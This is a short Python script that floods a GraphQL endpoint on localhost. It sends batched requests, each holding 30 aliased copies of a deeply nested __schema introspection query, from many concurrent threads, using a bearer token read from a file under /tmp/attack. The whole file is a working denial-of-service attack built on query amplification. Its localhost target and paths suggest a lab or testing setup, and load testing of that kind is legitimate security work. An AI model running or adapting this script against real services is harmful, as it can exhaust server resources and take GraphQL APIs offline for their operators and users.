import sys, time, threading, json, urllib.request
tok=open('/tmp/attack/utok').read()
S='__schema { types { fields { type { ofType { ofType { fields { type { name } } } } } } } }'
doc='query {'+' '.join('a%d: %s'%(i,S) for i in range(30))+'}'
body=json.dumps([{"query":doc}]*7).encode()
def one(k):
    req=urllib.request.Request("http://127.0.0.1:18081/graphql",data=body,headers={"Content-Type":"application/json","Authorization":"Bearer "+tok})
    t=time.time()
    try: r=urllib.request.urlopen(req); c=r.status; b=r.read()
    except urllib.error.HTTPError as e: c=e.code; b=e.read()
    print(k,c,len(b),round(time.time()-t,2),b[:60],flush=True)
n=int(sys.argv[1])
ts=[threading.Thread(target=one,args=(i,)) for i in range(n)]
[t.start() for t in ts]; [t.join() for t in ts]
